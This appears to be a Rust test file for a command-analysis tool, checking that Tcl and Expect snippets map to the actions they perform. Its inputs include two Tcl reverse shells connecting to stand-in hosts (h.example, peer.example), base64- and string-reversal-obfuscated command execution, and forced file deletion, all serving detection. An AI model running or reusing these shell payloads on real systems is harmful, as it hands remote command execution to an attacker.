//! Tcl and Expect.

use super::check;
use aegish_profiles::Lang;

#[test]
fn tcl_and_expect() {
    check(
        Lang::Tcl,
        &[
            ("exec ls -l", &["argv ls|-l"]),
            ("puts [exec sh -c {cat /etc/hosts}]", &["argv sh|-c|cat /etc/hosts"]),
            ("exec ls | wc -l", &["argv ls", "argv wc|-l"]),
            ("set c id; exec $c", &["argv id"]),
            ("set c i; append c d; exec $c", &["argv id"]),
            ("exec [string reverse di]", &["argv id"]),
            ("exec sh -c [binary decode base64 aWQ=]", &["argv sh|-c|id"]),
            ("eval {exec id}", &["argv id"]),
            ("if {1} { exec id }", &["argv id"]),
            ("set f [open /etc/hosts]; puts [read $f]", &["read /etc/hosts"]),
            ("set f [open /tmp/x w]; puts $f DATA", &["write /tmp/x <- DATA"]),
            ("open \"|ls -l\"", &["argv ls|-l"]),
            ("load ./x.so y", &["load ./x.so"]),
            ("source /srv/x.tcl", &["script tcl /srv/x.tcl"]),
            ("file delete -force /srv/x", &["tree /srv/x"]),
            (
                "set s [socket h.example 99];while 1 { puts -nonewline $s \"> \";flush $s;gets $s c;set e \"exec $c\";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;",
                &["connect h.example 99", "received"],
            ),
            (
                "set s [socket $::env(PEER) $::env(PORT)]; exec sh <@$s >@$s",
                &["connect peer.example 7001", "attach", "argv sh"],
            ),
            ("puts {exec rm}", &[]),
            ("# exec rm", &[]),
            ("puts hello", &[]),
            ("set x [expr {1 + 2}]", &[]),
        ],
    );
    check(
        Lang::Expect,
        &[
            ("spawn /bin/sh;interact", &["argv /bin/sh"]),
            ("spawn sh\nsend \"id\\r\"", &["argv sh", "shell id"]),
            (
                "spawn ssh h.example\nexpect \"password\"\nsend \"x\\r\"\ninteract",
                &["argv ssh|h.example"],
            ),
        ],
    );
}

#[test]
fn lists_patterns_and_substitutions_are_followed() {
    check(
        Lang::Tcl,
        &[
            ("puts [read [open [join {/srv data} /]]]", &["read /srv/data"]),
            ("puts [read [open [glob /srv/dat?]]]", &["list /srv/dat?", "read /srv/dat?"]),
            ("puts [subst {[exec id]}]", &["argv id"]),
            ("cd /srv; open data", &["chdir /srv", "read /srv/data"]),
        ],
    );
}
